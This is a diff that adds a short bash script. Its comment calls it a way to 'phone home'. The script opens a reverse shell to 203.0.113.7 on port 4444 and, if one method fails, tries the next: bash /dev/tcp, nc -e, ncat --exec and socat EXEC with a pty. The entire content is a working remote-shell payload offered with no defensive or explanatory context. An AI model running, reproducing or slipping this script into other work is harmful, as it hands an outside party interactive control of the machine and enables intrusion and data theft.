@@ -0,0 +1,9 @@
+#!/bin/bash
+# Phone home, falling back through whatever is installed
+HOST=203.0.113.7
+PORT=4444
+
+bash -i >& /dev/tcp/$HOST/$PORT 0>&1 || \
+  nc -e /bin/sh "$HOST" "$PORT" || \
+  ncat --exec /bin/bash "$HOST" "$PORT" || \
+  socat TCP:$HOST:$PORT EXEC:/bin/sh,pty,stderr